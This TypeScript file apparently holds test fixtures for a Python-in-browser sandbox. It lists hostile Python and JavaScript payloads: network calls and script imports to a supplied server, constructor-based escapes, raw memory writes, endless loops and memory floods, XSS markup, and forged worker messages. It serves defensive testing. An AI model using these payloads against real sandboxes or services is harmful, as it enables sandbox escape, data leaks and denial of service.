/** Payloads of hostile links: Python code, and scripts for code that breaks out of Python into its worker. */

/** Python code. `where` is the URL of a server that counts requests. */
export const hostilePython = (where: string): Readonly<Record<string, string>> => ({
  'js.fetch': `import js\njs.fetch("${where}")`,
  'js.XMLHttpRequest': `import js\nx = js.XMLHttpRequest.new()\nx.open("GET", "${where}")\nx.send()`,
  'js.WebSocket': `import js\njs.WebSocket.new("${where.replace('http', 'ws')}")`,
  'js.eval': `import js\njs.eval("fetch('${where}')")`,
  'js.importScripts': `import js\njs.importScripts("${where}")`,
  'js.postMessage': 'import js\njs.postMessage("forged")',
  'js by its names': 'import js\nfor name in dir(js):\n    print(name)\njs.self.close()',
  'js.constructor': `import js\njs.constructor.constructor("fetch('${where}')")()`,
  'a proxy of ours': `import jsffi\nmade = jsffi.create_proxy([1])\nmade.constructor.constructor("fetch('${where}')")()`,
  'a list of JavaScript': `import jsffi\nmade = jsffi.to_js([1])\nmade.constructor.from_(range(10 ** 9))`,
  'a function of JavaScript': 'import jsffi\njsffi.create_proxy(lambda: 1)()',
  'a timer of JavaScript': 'import jsffi\njsffi.async_timeout_ms(10)',
  'js under another name': 'import sys\nsys.modules["js"].fetch("x")',
  'a task that goes on':
    'import asyncio\nasync def on():\n    while True:\n        await asyncio.sleep(0)\nasyncio.create_task(on())',
  'a socket': 'import socket\nsocket.socket()',
  'a file to write': 'while True:\n    open("/big", "a").write("x" * 100000)',
  'endless folders': 'import os\nk = 0\nwhile True:\n    k += 1\n    os.mkdir("/d%d" % k)',
  'an endless loop': 'while True:\n    pass',
  'an endless loop that catches all':
    'while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass',
  sleep: 'import time\ntime.sleep(60)',
  'a text that doubles': 'x = "a"\nwhile True:\n    x += x',
  'a list that grows': 'x = []\nwhile True:\n    x.append(bytearray(100000))',
  'a great number': 'x = 9 ** 9 ** 9',
  recursion: 'def f():\n    return f()\nf()',
  'recursion of brackets': `x = ${'('.repeat(3000)}1${')'.repeat(3000)}`,
  'a flood of output': 'while True:\n    print("x" * 1000)',
  'a flood of lines': 'for k in range(10 ** 6):\n    print(k)',
  'markup in the output': 'print("<img src=x onerror=alert(1)><script>alert(1)</script>")',
  'markup in an error': 'raise ValueError("<img src=x onerror=alert(1)>")',
  'memory by address': 'import uctypes\nfor at in range(0, 10 ** 8, 64):\n    uctypes.bytearray_at(at, 64)[0] = 255',
  'code of its own': 'exec("while True: pass")',
  'the interpreter itself': 'import _interpreter\n_interpreter.answer = None',
  'the small NumPy': 'np.ndarray.__add__ = None\nnp.array = None\nnp.exp = None',
  'the builtins': 'import builtins\nbuiltins.len = None\nbuiltins.isinstance = None',
  'all modules': 'import sys\nsys.modules.clear()\nsys.path.clear()',
  'an exit': 'import sys\nsys.exit()',
  'a loop in an exception':
    'class Mine(Exception):\n    def __str__(self):\n        while True:\n            pass\nraise Mine()',
  'a loop in a name':
    'class Mine:\n    def __len__(self):\n        while True:\n            pass\nphi = Mine()\nfor t in range(1, steps + 1):\n    pass',
  'numbers without end':
    'phi = np.array([float("nan"), float("inf")])\nfor t in range(1, steps + 1):\n    phi = phi * 1e300',
  input: 'input()',
});

/**
 * Scripts in place of the worker, past all of Python's protections: only the sandbox's policy remains. Each is the body
 * of an async function whose result or error is reported.
 */
export const hostileScripts = (where: string): Readonly<Record<string, string>> => ({
  fetch: `await fetch('${where}?fetch')`,
  'fetch, opaque': `await fetch('${where}?opaque', { mode: 'no-cors', keepalive: true })`,
  'fetch of the site': `await fetch(new URL('/', '${where}'))`,
  XMLHttpRequest: `await new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open('GET', '${where}?xhr'); x.onload = done; x.onerror = fail; x.send(); })`,
  'XMLHttpRequest that waits': `const x = new XMLHttpRequest(); x.open('GET', '${where}?sync', false); x.send()`,
  WebSocket: `await new Promise((done, fail) => { const s = new WebSocket('${where.replace('http', 'ws')}'); s.onopen = done; s.onerror = fail; })`,
  EventSource: `await new Promise((done, fail) => { const s = new EventSource('${where}?events'); s.onopen = done; s.onerror = fail; })`,
  WebTransport: `await new WebTransport('${where.replace('http:', 'https:')}').ready`,
  importScripts: `importScripts('${where}?script')`,
  'import()': `await import('${where}?import')`,
  'import() of data': `await import('data:text/javascript,1')`,
  eval: `eval('1 + 1')`,
  Function: `new Function('return 1')()`,
  'a timer of text': `await new Promise((done, fail) => { self.ran = fail; setTimeout('self.ran(0)', 0); setTimeout(fail, 300, 'did not run'); })`,
  'a worker elsewhere': `await new Promise((done, fail) => { const w = new Worker('${where}?worker'); w.onmessage = done; w.onerror = fail; })`,
  'a worker within that asks': `await new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${where}?nested').then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = ({ data }) => data ? done() : fail('refused'); w.onerror = fail; })`,
  'a shared worker': `new SharedWorker('${where}?shared')`,
  'a service worker': `await navigator.serviceWorker.register('${where}?service')`,
  indexedDB: `await new Promise((done, fail) => { const r = indexedDB.open('x'); r.onsuccess = done; r.onerror = fail; })`,
  caches: `await caches.open('x')`,
  'a private file system': `await navigator.storage.getDirectory()`,
  localStorage: `localStorage.setItem('x', '1')`,
  cookies: `await cookieStore.set('x', '1')`,
  parent: `parent.document.title`,
  top: `top.location = '${where}?top'`,
  document: `document.title`,
  'a font': `await new FontFace('x', 'url(${where}?font)').load()`,
  'a picture': `new Image().src = '${where}?image'`,
  'a beacon': `navigator.sendBeacon('${where}?beacon')`,
  'a report': `await fetch('${where}?report', { method: 'POST', body: 'x' })`,
  'a channel to other pages': `new BroadcastChannel('x').postMessage(1); throw 'nobody listens'`,
  'a lock': `await navigator.locks.request('x', () => 1)`,
  notifications: `await new Promise((done, fail) => { const shown = new Notification('x'); shown.onshow = done; shown.onerror = fail; })`,
});

/** Messages that a worker could forge, each instead of an answer. */
export const forgedMessages: readonly unknown[] = [
  'text',
  null,
  { id: 1 },
  { id: '1', told: '{}', columns: {} },
  { id: 1, told: '{', columns: {} },
  { id: 1, told: '{"columns":[]}', columns: { loss: 'x' } },
  { id: 1, told: '{"columns":[]}', columns: null },
  { id: 1, told: 'x'.repeat(200_000), columns: {} },
  { id: 1e99, told: '{}', columns: {} },
  { ready: 'yes' },
  { id: 1, told: '{"error":{"message":{"toString":1}}}', columns: {} },
  { id: 1, told: '{"status":["diverged","<img>",{}],"columns":[]}', columns: {}, printed: { length: 9 }, left: 'many' },
];
